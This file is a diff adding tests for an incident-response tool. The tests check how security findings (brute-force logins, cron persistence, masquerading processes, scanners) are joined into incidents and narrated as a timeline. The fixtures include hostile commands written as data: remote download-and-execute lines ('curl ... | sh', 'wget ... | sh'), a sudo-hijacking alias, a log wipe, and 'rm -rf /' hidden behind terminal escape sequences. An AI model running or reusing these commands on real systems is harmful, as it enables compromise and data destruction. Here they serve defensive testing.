@@ -1,0 +1,383 @@
+/**
+ * Joining findings into incidents: each join reason, ties, chains, what is never joined (shared
+ * system and writable folders, root, a reused pid), every finding in exactly one incident,
+ * determinism under shuffled input, the story's order and gaps, hostile text kept one line.
+ */
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { IncidentsFileSchema } from '../../src/evidence/bundle-schemas.js';
+import type { AccountRecord } from '../../src/model/access.js';
+import type { AuthLoginRecord } from '../../src/model/auth.js';
+import type { KnownFacts } from '../../src/model/facts.js';
+import type { Finding, FindingSubject, Severity } from '../../src/model/finding.js';
+import type { IncidentsFile } from '../../src/model/incident.js';
+import { buildIncidents } from '../../src/story/incidents.js';
+import { isSpecificFolder } from '../../src/story/subjects.js';
+import { proc } from '../helpers/records.js';
+
+let seq = 0;
+function finding(rule: string, subject: FindingSubject, over: Partial<Finding> = {}): Finding {
+  seq += 1;
+  return {
+    id: `F-${String(seq).padStart(4, '0')}`,
+    rule,
+    severity: 'high',
+    title: `${rule} finding ${seq}`,
+    detail: '',
+    mitre: [],
+    subject: { pid: null, path: null, user: null, ip: null, ...subject },
+    evidence: ['artifacts/x.jsonl'],
+    ...over,
+  };
+}
+
+function renumber(fs: Finding[]): Finding[] {
+  return fs.map((f, i) => ({ ...f, id: `F-${String(i + 1).padStart(4, '0')}` }));
+}
+
+function account(user: string, uid: number): AccountRecord {
+  return { user, uid, gid: uid, gecos: '', home: uid === 0 ? '/root' : `/home/${user}`, shell: '/bin/bash', line: 1, loginShell: true, passwdField: 'shadow', shadow: null, groups: [] } as unknown as AccountRecord;
+}
+
+/** The incident holding a finding. */
+function incidentOf(file: IncidentsFile, id: string) {
+  return file.incidents.find((i) => i.findings.includes(id))!;
+}
+
+function together(file: IncidentsFile, a: string, b: string): boolean {
+  return incidentOf(file, a) === incidentOf(file, b);
+}
+
+function checkPartition(file: IncidentsFile, findings: Finding[]): void {
+  const all = file.incidents.flatMap((i) => i.findings).sort();
+  expect(all).toEqual(findings.map((f) => f.id).sort());
+  expect(IncidentsFileSchema.safeParse(file).success).toBe(true);
+  for (const inc of file.incidents) expect(inc.joins.length).toBe(inc.findings.length - 1);
+}
+
+const scanner = proc({ pid: 5617, ppid: 5600, uid: 1001, user: 'deploy', comm: 'pscan2', exe: '/tmp/.. /pscan2', cwd: '/tmp/.. ', startTime: '2026-11-22T22:26:45.000Z', startTicks: 9000, exeSha256: 'a'.repeat(64) });
+const shell = proc({ pid: 5600, ppid: 1, uid: 1001, user: 'deploy', comm: 'bash', exe: '/usr/bin/bash', cwd: '/home/deploy', startTime: '2026-11-22T22:26:10.000Z', startTicks: 8000 });
+const procSubject = (p: typeof scanner) => ({ pid: p.pid, path: p.exe, user: p.user, comm: p.comm, cwd: p.cwd });
+
+describe('join reasons', () => {
+  it('same process: pid and start time', () => {
+    const fs = [finding('process.known-tool', procSubject(scanner)), finding('network.ssh-outbound-fanout', { ...procSubject(scanner), hosts: 31 })];
+    const r = buildIncidents(fs, { processes: [scanner] });
+    expect(r.incidents).toHaveLength(1);
+    expect(r.incidents[0]!.joins).toEqual([{ a: fs[0]!.id, b: fs[1]!.id, reason: 'same-process', value: 'pid 5617' }]);
+    checkPartition(r, fs);
+  });
+
+  it('no join on a reused pid: the finding names another process than the table holds', () => {
+    const reused = proc({ pid: 4000, comm: 'xmrig', exe: '/var/tmp/.x/xmrig', cwd: '/', startTicks: 5000 });
+    const fs = [
+      finding('process.known-tool', { pid: 4000, path: '/var/tmp/.x/xmrig', comm: 'xmrig' }),
+      // Read at another moment: same pid, another program (the first exited, the pid was given again).
+      finding('process.masquerade', { pid: 4000, path: '/dev/shm/.y/sshd', comm: 'sshd' }),
+      // Same pid and name, another start: not the same process either.
+      finding('process.deleted-exe', { pid: 4000, path: '/var/tmp/.z/xmrig', comm: 'xmrig', startTicks: 7777 }),
+      // A pid from a log (an sshd pid) is never a live process.
+      finding('auth.login-after-failures', { pid: 4000, ip: '192.0.2.1', user: 'root', time: '2026-11-22T22:00:00Z', failuresBefore: 3 }),
+    ];
+    const r = buildIncidents(fs, { processes: [reused] });
+    expect(r.incidents).toHaveLength(4);
+    checkPartition(r, fs);
+  });
+
+  it('process tree: a flagged child of a flagged parent; never a parent that started after its child', () => {
+    const parent = proc({ pid: 300, comm: 'kit', exe: '/opt/kit/a', cwd: '/', startTicks: 100 });
+    const child = proc({ pid: 301, ppid: 300, comm: 'miner', exe: '/srv/m/b', cwd: '/', startTicks: 200 });
+    const fs = [finding('process.known-tool', procSubject(parent)), finding('process.known-tool', procSubject(child))];
+    const r = buildIncidents(fs, { processes: [parent, child] });
+    expect(r.incidents).toHaveLength(1);
+    expect(r.incidents[0]!.joins[0]).toMatchObject({ reason: 'process-tree', value: 'pid 300 → pid 301' });
+    const late = { ...parent, startTicks: 300 };
+    expect(buildIncidents(fs, { processes: [late, child] }).incidents).toHaveLength(2);
+  });
+
+  it('same executable: one sha256 in two folders', () => {
+    const a = proc({ pid: 10, comm: 'sshd', exe: '/dev/shm/.a/sshd', cwd: '/', exeSha256: 'b'.repeat(64) });
+    const b = proc({ pid: 11, comm: 'crond', exe: '/var/tmp/.b/crond', cwd: '/', exeSha256: 'b'.repeat(64) });
+    const fs = [finding('process.masquerade', { ...procSubject(a), claimed: 'sshd' }), finding('process.masquerade', { ...procSubject(b), claimed: 'crond' })];
+    const r = buildIncidents(fs, { processes: [a, b] });
+    expect(r.incidents).toHaveLength(1);
+    expect(r.incidents[0]!.joins[0]).toMatchObject({ reason: 'same-executable', value: `sha256 ${'b'.repeat(64)}` });
+  });
+
+  it('same file: a cron line that runs a flagged executable, by its parsed runs or by its text', () => {
+    const fs = [
+      finding('process.known-tool', procSubject(scanner)),
+      finding('persistence.cron', { path: '/var/spool/cron/crontabs/deploy', line: 1, user: 'deploy', command: '/tmp/.. /pscan2 -p 22 >/dev/null', schedule: '* * * * *' }),
+    ];
+    const r = buildIncidents(fs, { processes: [scanner] });
+    expect(r.incidents).toHaveLength(1);
+    // The folder and the account would join too: the file is the most telling, and it is kept.
+    expect(r.incidents[0]!.joins[0]).toMatchObject({ reason: 'same-file', value: '/tmp/.. /pscan2' });
+  });
+
+  it('same folder: a specific folder, shown with its trailing slash', () => {
+    const fs = [finding('file.new-executable', { path: '/tmp/.. /pscan2', uid: 0 }), finding('file.new-executable', { path: '/tmp/.. /vuln.txt', uid: 0 })];
+    const r = buildIncidents(fs, {});
+    expect(r.incidents).toHaveLength(1);
+    expect(r.incidents[0]!.joins[0]).toMatchObject({ reason: 'same-folder', value: '/tmp/.. /' });
+  });
+
+  it('same address', () => {
+    const fs = [
+      finding('auth.bruteforce', { ip: '127.0.0.3', failures: 30 }),
+      finding('auth.login-after-failures', { ip: '127.0.0.3', user: 'root', time: '2026-11-22T22:26:09Z', failuresBefore: 30 }),
+    ];
+    const r = buildIncidents(fs, {});
+    expect(r.incidents[0]!.joins).toEqual([{ a: fs[0]!.id, b: fs[1]!.id, reason: 'same-address', value: '127.0.0.3' }]);
+  });
+
+  it('same account: an ordinary account joins; root and system accounts do not', () => {
+    const facts: KnownFacts = { accounts: [account('root', 0), account('www-data', 33), account('deploy', 1001)] };
+    const fs = [
+      finding('persistence.authorized-key', { path: '/home/deploy/.ssh/authorized_keys', line: 2, user: 'deploy' }),
+      finding('persistence.cron', { path: '/var/spool/cron/crontabs/deploy', line: 3, user: 'deploy', command: 'curl -s http://x | sh' }),
+      finding('persistence.authorized-key', { path: '/root/.ssh/authorized_keys', line: 1, user: 'root' }),
+      finding('persistence.cron', { path: '/var/spool/cron/crontabs/root', line: 1, user: 'root', command: 'wget -q -O- http://y | sh' }),
+      finding('persistence.cron', { path: '/var/spool/cron/crontabs/www-data', line: 1, user: 'www-data', command: '/dev/shm/x' }),
+      finding('persistence.startup', { path: '/var/www/.bashrc', line: 1, user: 'www-data', text: 'alias sudo=/dev/shm/y' }),
+    ];
+    const r = buildIncidents(fs, facts);
+    expect(incidentOf(r, fs[0]!.id).joins).toEqual([{ a: fs[0]!.id, b: fs[1]!.id, reason: 'same-account', value: 'deploy' }]);
+    for (const f of fs.slice(2)) expect(incidentOf(r, f.id).findings).toEqual([f.id]);
+    expect(r.incidents).toHaveLength(5);
+  });
+
+  it('in session: the login, its history entries and its account\'s processes while it was open', () => {
+    const login: AuthLoginRecord = { time: '2026-11-22T22:26:09.000Z', user: 'deploy', address: '127.0.0.3', port: 40000, method: 'password', key: null, host: 'web', program: 'sshd', pid: 4100, source: '/var/log/auth.log', lineNo: 497, logout: '2026-11-22T22:40:12.000Z', failuresFromAddress: { count: 30, first: null, last: null }, failuresForUser: { count: 30, first: null, last: null, addresses: 1, addressesCapped: false } };
+    const session = { source: 'auth-log', user: 'deploy', login: login.time, logout: login.logout, address: '127.0.0.3', line: null };
+    const lateTool = proc({ pid: 9000, uid: 1001, user: 'deploy', comm: 'xmr', exe: '/home/deploy/.cache/x', cwd: '/', startTime: '2026-11-23T10:00:00.000Z', startTicks: 99999 });
+    const fs = [
+      finding('auth.login-after-failures', { ip: '127.0.0.3', user: 'deploy', pid: 4100, time: login.time, logout: login.logout, method: 'password', failuresBefore: 30 }, { severity: 'critical' }),
+      // The history entry names no address of its own here: only its session joins it.
+      finding('activity.history-tampering', { path: '/home/deploy/.bash_history', line: 4, user: 'deploy', command: 'history -c', time: '2026-11-22T22:30:00Z', session }),
+      finding('process.known-tool', { pid: 5600, path: '/usr/bin/bash', user: 'deploy', comm: 'bash', cwd: '/home/deploy' }),
+      finding('process.known-tool', procSubject(lateTool)),
+    ];
+    const facts: KnownFacts = { accounts: [account('deploy', 1001)], authLogins: [login], processes: [shell, lateTool] };
+    const r = buildIncidents(fs, facts);
+    const inc = incidentOf(r, fs[0]!.id);
+    expect(inc.findings).toContain(fs[1]!.id);
+    expect(inc.findings).toContain(fs[2]!.id);
+    const reasons = inc.joins.map((j) => j.reason);
+    expect(reasons.filter((x) => x === 'in-session')).toHaveLength(2);
+    expect(inc.joins.find((j) => j.reason === 'in-session')!.value).toBe('deploy from 127.0.0.3 2026-11-22 22:26:09–22:40:12 UTC');
+    // Started after the session closed: joined by the account, not by the session.
+    expect(inc.joins.find((j) => j.b === fs[3]!.id)).toMatchObject({ reason: 'same-account', value: 'deploy' });
+    checkPartition(r, fs);
+  });
+
+  it('root\'s session joins its own history, not every root process that started while it was open', () => {
+    const login: AuthLoginRecord = { time: '2026-11-22T22:00:00.000Z', user: 'root', address: '198.51.100.1', port: 1, method: 'publickey', key: null, host: null, program: 'sshd', pid: 1, source: 'journal', lineNo: null, logout: null, failuresFromAddress: { count: 0, first: null, last: null }, failuresForUser: { count: 0, first: null, last: null, addresses: 0, addressesCapped: false } };
+    const daemon = proc({ pid: 800, comm: 'sshd', exe: '/dev/shm/.s/sshd', cwd: '/', startTime: '2026-11-22T23:00:00.000Z' });
+    const fs = [
+      finding('auth.root-login', { ip: '198.51.100.1', user: 'root', first: login.time, last: login.time, logins: 1 }),
+      finding('process.masquerade', { ...procSubject(daemon), claimed: 'sshd' }),
+      finding('activity.log-wipe', { path: '/root/.bash_history', line: 9, user: 'root', command: 'rm -f /var/log/wtmp', time: '2026-11-22T22:05:00Z', session: { source: 'auth-log', user: 'root', login: login.time, logout: null, address: '198.51.100.1', line: null } }),
+    ];
+    const r = buildIncidents(fs, { authLogins: [login], processes: [daemon], accounts: [account('root', 0)] });
+    expect(together(r, fs[0]!.id, fs[2]!.id)).toBe(true);
+    expect(together(r, fs[0]!.id, fs[1]!.id)).toBe(false);
+  });
+});
+
+describe('never joined on coincidence', () => {
+  it('two processes in /tmp are not one incident because both are in /tmp', () => {
+    const a = proc({ pid: 20, comm: 'a', exe: '/tmp/a', cwd: '/tmp' });
+    const b = proc({ pid: 21, comm: 'b', exe: '/tmp/b', cwd: '/tmp' });
+    const c = proc({ pid: 22, comm: 'c', exe: '/usr/bin/perl', cwd: '/' });
+    const d = proc({ pid: 23, comm: 'd', exe: '/usr/bin/perl', cwd: '/', exeSha256: 'c'.repeat(64) });
+    const e = proc({ pid: 24, comm: 'e', exe: '/dev/shm/e', cwd: '/root' });
+    const f2 = proc({ pid: 25, comm: 'f', exe: '/var/tmp/f', cwd: '/home/alice' });
+    const all = [a, b, c, { ...d }, e, f2];
+    const fs = all.map((p) => finding('process.exe-in-writable-dir', procSubject(p)));
+    const r = buildIncidents(fs, { processes: all.map((p) => (p.pid === 22 ? { ...p, exeSha256: 'c'.repeat(64) } : p)), accounts: [account('root', 0), account('alice', 1000)] });
+    expect(r.incidents).toHaveLength(6);
+  });
+
+  it.each([
+    ['/', false], ['/tmp/', false], ['/var/tmp/', false], ['/dev/shm/', false], ['/etc/', false], ['/usr/bin/', false], ['/root/', false],
+    ['/home/', false], ['/home/alice/', false], ['/home/alice/.ssh/', false], ['/etc/cron.d/', false], ['/var/spool/cron/crontabs/', false], ['/usr/local/bin/', false],
+    ['/tmp/.. /', true], ['/tmp/x/', true], ['/dev/shm/.x/', true], ['/usr/lib/.sshd/', true], ['/etc/.. /', true], ['/home/alice/.x/', true], ['/root/.kit/', true], ['/opt/app/', true],
+  ])('%s is specific: %s', (folder, specific) => {
+    expect(isSpecificFolder(folder)).toBe(specific);
+  });
+
+  it('an account home from /etc/passwd is not specific', () => {
+    expect(isSpecificFolder('/var/www/', new Set(['/var/www']))).toBe(false);
+  });
+
+  it('empty files share no executable', () => {
+    const empty = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
+    const fs = [finding('file.new-executable', { path: '/srv/a/x', sha256: empty }), finding('file.new-executable', { path: '/srv/b/y', sha256: empty })];
+    expect(buildIncidents(fs, {}).incidents).toHaveLength(2);
+  });
+
+  it('/etc/passwd is not a shared subject: two new accounts are two incidents', () => {
+    const fs = [finding('account.new', { path: '/etc/passwd', line: 30, user: 'x1', uid: 0 }), finding('account.new', { path: '/etc/passwd', line: 31, user: 'x2', uid: 0 })];
+    expect(buildIncidents(fs, {}).incidents).toHaveLength(2);
+  });
+});
+
+describe('chains, ties, partition, determinism', () => {
+  it('a chain through several subjects: address → account → file → process', () => {
+    const fs = renumber([
+      finding('auth.bruteforce', { ip: '203.0.113.7', failures: 200, firstFailure: '2026-11-22T20:00:00Z', lastFailure: '2026-11-22T22:26:00Z' }, { severity: 'medium', mitre: ['T1110'] }),
+      finding('auth.login-after-failures', { ip: '203.0.113.7', user: 'deploy', time: '2026-11-22T22:26:09Z', failuresBefore: 200, method: 'password' }, { severity: 'critical', mitre: ['T1110.001', 'T1078'] }),
+      finding('persistence.cron', { path: '/var/spool/cron/crontabs/deploy', line: 1, user: 'deploy', command: '/tmp/.. /pscan2', schedule: '* * * * *' }, { mitre: ['T1053.003'] }),
+      finding('process.known-tool', procSubject(scanner), { mitre: ['T1046'] }),
+      finding('network.ssh-outbound-fanout', { ...procSubject(scanner), hosts: 31 }, { mitre: ['T1046'] }),
+    ]);
+    const r = buildIncidents(fs, { processes: [scanner], accounts: [account('deploy', 1001)] });
+    expect(r.incidents).toHaveLength(1);
+    const inc = r.incidents[0]!;
+    expect(inc.joins.map((j) => j.reason).sort()).toEqual(['same-account', 'same-address', 'same-file', 'same-process']);
+    expect(inc.title).toBe('Brute force and login as deploy from 203.0.113.7, then SSH scanner pscan2 running from /tmp/.. /, restarted by cron');
+    expect(inc.severity).toBe('critical');
+    // Every tactic of every technique named, in ATT&CK's order (T1078 alone has four).
+    expect(inc.tactics).toEqual(['initial-access', 'execution', 'persistence', 'privilege-escalation', 'defense-evasion', 'credential-access', 'discovery']);
+    expect(inc.subjects).toMatchObject({ pids: [5617], addresses: ['203.0.113.7'], accounts: ['deploy'], folders: ['/tmp/.. /'], sha256: ['a'.repeat(64)] });
+  });
+
+  it('ties: incidents of one severity go by size, then by first time, then by finding id', () => {
+    const fs = renumber([
+      finding('file.new-executable', { path: '/srv/a/x', mtime: '2026-01-02T00:00:00Z' }),
+      finding('file.new-executable', { path: '/srv/b/x', mtime: '2026-01-01T00:00:00Z' }),
+      finding('file.new-executable', { path: '/srv/c/x' }),
+      finding('file.new-executable', { path: '/srv/c/y' }),
+      finding('file.new-executable', { path: '/srv/d/x' }),
+    ]);
+    const r = buildIncidents(fs, {});
+    expect(r.incidents.map((i) => i.findings)).toEqual([['F-0003', 'F-0004'], ['F-0002'], ['F-0001'], ['F-0005']]);
+    expect(r.incidents.map((i) => i.id)).toEqual(['I-01', 'I-02', 'I-03', 'I-04']);
+    expect(r.main).toBe('I-01');
+  });
+
+  it('titles of process groups and planted files', () => {
+    const memfd = [1, 2, 3].map((i) => proc({ pid: 40 + i, comm: 'memfd:x', exe: '/memfd:x', exeDeleted: true, cwd: '/', exeSha256: 'd'.repeat(64) }));
+    const files = [finding('file.new-executable', { path: '/srv/k/a' }), finding('file.new-executable', { path: '/srv/k/b' }), finding('file.setuid-unpackaged', { path: '/srv/k/c' })];
+    const fs = renumber([...memfd.map((p) => finding('process.deleted-exe', procSubject(p))), ...files]);
+    const titles = buildIncidents(fs, { processes: memfd }).incidents.map((i) => i.title).sort();
+    expect(titles).toEqual(['2 new executables and 1 setuid file in /srv/k/', '3 processes named memfd:x: its executable was deleted from disk']);
+  });
+
+  it('no findings: no incident, no main', () => {
+    expect(buildIncidents([], {})).toEqual({ version: 1, main: null, incidents: [] });
+  });
+
+  it('every finding in exactly one incident, and the same incidents whatever the order (fast-check)', () => {
+    const paths = ['/tmp/.. /a', '/tmp/.. /b', '/tmp/c', '/dev/shm/.k/d', '/etc/passwd', '/home/u/.x/e', null];
+    const ips = ['127.0.0.3', '198.51.100.2', null];
+    const users = ['deploy', 'root', 'www-data', 'alice', null];
+    const procs = [scanner, shell, proc({ pid: 77, ppid: 5617, comm: 'k', exe: '/dev/shm/.k/d', cwd: '/', startTicks: 9500, user: 'alice' })];
+    const rules = ['process.known-tool', 'file.new-executable', 'auth.bruteforce', 'persistence.cron', 'activity.download-execute'];
+    const severities: Severity[] = ['low', 'medium', 'high', 'critical'];
+    const arbFinding = fc.record({
+      rule: fc.constantFrom(...rules),
+      path: fc.constantFrom(...paths),
+      ip: fc.constantFrom(...ips),
+      user: fc.constantFrom(...users),
+      proc: fc.option(fc.constantFrom(...procs), { nil: null }),
+      severity: fc.constantFrom(...severities),
+      time: fc.option(fc.integer({ min: 0, max: 7200 }), { nil: null }),
+    });
+    fc.assert(
+      fc.property(fc.array(arbFinding, { maxLength: 25 }), fc.integer(), (specs, seed) => {
+        const fs: Finding[] = specs.map((s, i) => ({
+          id: `F-${String(i + 1).padStart(4, '0')}`,
+          rule: s.rule,
+          severity: s.severity,
+          title: `t${i}`,
+          detail: '',
+          mitre: ['T1046'],
+          subject: s.proc ? { pid: s.proc.pid, path: s.proc.exe, user: s.proc.user, comm: s.proc.comm, ip: s.ip } : { pid: null, path: s.path, user: s.user, ip: s.ip, time: s.time === null ? null : new Date(Date.UTC(2026, 10, 22, 22) + s.time * 1000).toISOString(), command: s.path ? `run ${s.path}` : null },
+          evidence: [],
+        }));
+        const facts: KnownFacts = { processes: procs, accounts: [account('root', 0), account('www-data', 33), account('deploy', 1001), account('alice', 1000)] };
+        const r = buildIncidents(fs, facts);
+        checkPartition(r, fs);
+        const shuffled = [...fs];
+        let x = seed;
+        for (let i = shuffled.length - 1; i > 0; i--) {
+          x = (Math.imul(x, 1103515245) + 12345) | 0;
+          const j = Math.abs(x) % (i + 1);
+          [shuffled[i], shuffled[j]] = [shuffled[j]!, shuffled[i]!];
+        }
+        expect(buildIncidents(shuffled, facts)).toEqual(r);
+      }),
+      { numRuns: 200 },
+    );
+  });
+});
+
+describe('the story', () => {
+  const login: AuthLoginRecord = { time: '2026-11-22T22:26:09.000Z', user: 'deploy', address: '127.0.0.3', port: 40000, method: 'password', key: null, host: 'web', program: 'sshd', pid: 4100, source: '/var/log/auth.log', lineNo: 497, logout: '2026-11-22T22:50:12.000Z', failuresFromAddress: { count: 30, first: null, last: null }, failuresForUser: { count: 30, first: null, last: null, addresses: 1, addressesCapped: false } };
+  const session = { source: 'auth-log', user: 'deploy', login: login.time, logout: login.logout, address: '127.0.0.3', line: null };
+  const facts: KnownFacts = {
+    accounts: [account('deploy', 1001)],
+    authLogins: [login],
+    authEvidence: ['artifacts/auth-tally.json', 'files/logs/var/log/auth.log'],
+    processes: [scanner],
+    historyFiles: [{ path: '/home/deploy/.bash_history', user: 'deploy', copy: 'files/history/home/deploy/.bash_history' } as never],
+    persistenceFiles: [{ path: '/var/spool/cron/crontabs/deploy', mtime: '2026-11-22T22:27:30.000Z' } as never],
+  };
+  const fs = renumber([
+    finding('auth.login-after-failures', { ip: '127.0.0.3', user: 'deploy', pid: 4100, time: login.time, logout: login.logout, method: 'password', failuresBefore: 30 }, { severity: 'critical', mitre: ['T1110.001', 'T1078', 'T1021.004'] }),
+    finding('auth.bruteforce', { ip: '127.0.0.3', failures: 30, firstFailure: '2026-11-22T22:20:00.000Z', lastFailure: '2026-11-22T22:26:05.000Z' }, { severity: 'medium', mitre: ['T1110', 'T1110.001'] }),
+    finding('activity.download-execute', { path: '/home/deploy/.bash_history', line: 4, user: 'deploy', ip: '127.0.0.3', command: 'curl -s http://127.0.0.9/x | sh', time: '2026-11-22T22:26:40.000Z', session }, { mitre: ['T1105', 'T1059.004', 'T1204'] }),
+    finding('process.known-tool', { ...procSubject(scanner), tool: 'SSH scanner' }, { mitre: ['T1046', 'T1110'] }),
+    finding('network.ssh-outbound-fanout', { ...procSubject(scanner), hosts: 31 }, { mitre: ['T1046', 'T1110', 'T1021.004'] }),
+    finding('persistence.cron', { path: '/var/spool/cron/crontabs/deploy', line: 1, user: 'deploy', command: '/tmp/.. /pscan2', schedule: '* * * * *' }, { mitre: ['T1053.003', 'T1105', 'T1059.004'] }),
+    // No date and a late tactic: told after what it follows.
+    finding('process.hidden', { pid: 31337 }, { mitre: ['T1014'], title: 'Process hidden from ps' }),
+  ]);
+
+  it('links in time order with their tactics and evidence; one link per process; gaps said plainly', () => {
+    const r = buildIncidents(fs, facts);
+    const inc = incidentOf(r, fs[0]!.id);
+    expect(inc.findings).toHaveLength(6);
+    const story = inc.story.map((l) => [l.time?.slice(11, 19) ?? null, l.kind, l.tactic, l.text]);
+    expect(story).toEqual([
+      ['22:20:00', 'event', 'credential-access', '127.0.0.3 failed 30 ssh logins until 2026-11-22 22:26:05'],
+      ['22:26:09', 'event', 'initial-access', 'deploy logged in from 127.0.0.3 after 30 failed passwords'],
+      ['22:26:40', 'event', 'execution', 'the same session ran `curl -s http://127.0.0.9/x | sh`'],
+      ['22:26:45', 'event', 'discovery', 'pscan2 (pid 5617) started from /tmp/.. /: a known tool: SSH scanner; connects to 31 hosts on ssh ports'],
+      ['22:27:30', 'event', 'persistence', 'cron line /var/spool/cron/crontabs/deploy:1 runs `/tmp/.. /pscan2` every minute (the file was last changed at this time)'],
+      ['22:27:30', 'gap', null, 'no history of deploy covers 22:27–22:50 (23 minutes)'],
+      ['22:50:12', 'event', null, "deploy's session from 127.0.0.3 closed"],
+    ]);
+    expect(inc.story[1]!.evidence[0]).toBe('files/logs/var/log/auth.log:497');
+    expect(inc.story[2]!.evidence[0]).toBe('files/history/home/deploy/.bash_history:4');
+    expect(inc.story[3]!.findings).toEqual([fs[3]!.id, fs[4]!.id]);
+    expect(inc.first).toBe('2026-11-22T22:20:00.000Z');
+    expect(inc.last).toBe('2026-11-22T22:50:12.000Z');
+  });
+
+  it('undated links are placed by their tactic', () => {
+    // Without the crontab's time the cron line has no date: it goes after the last dated link of a tactic that comes before persistence (execution).
+    const r = buildIncidents(fs, { ...facts, persistenceFiles: [] });
+    const texts = incidentOf(r, fs[0]!.id).story.map((l) => `${l.time === null ? '-' : 'T'} ${l.tactic}`);
+    expect(texts).toEqual(['T credential-access', 'T initial-access', 'T execution', '- persistence', 'T discovery', 'T null', 'T null']);
+  });
+
+  it('hostile text stays one line in titles and links', () => {
+    const evil = proc({ pid: 666, comm: 'x\x1b[2J\ny', exe: '/tmp/.e\n\x1b]0;pwn\x07/sshd', cwd: '/', startTicks: 1 });
+    const hostile = [
+      finding('process.masquerade', { ...procSubject(evil), claimed: 'ss\rhd\u202e' }),
+      finding('auth.login-after-failures', { ip: '192.0.2.5', user: 'ro\not\x1b[31m', time: '2026-11-22T00:00:00Z', failuresBefore: 12, method: 'password' }),
+      finding('activity.download-execute', { path: '/home/x/.bash_history', line: 1, user: 'x', command: 'curl x|sh\n\x1b[1Arm -rf /', time: '2026-11-22T00:01:00Z' }),
+    ];
+    const r = buildIncidents(hostile, { processes: [evil] });
+    for (const inc of r.incidents) {
+      // eslint-disable-next-line no-control-regex
+      expect(inc.title).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e]/);
+      // eslint-disable-next-line no-control-regex
+      for (const l of inc.story) expect(l.text).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e]/);
+    }
+    expect(incidentOf(r, hostile[0]!.id).title).toContain('\\x1b');
+  });
+});
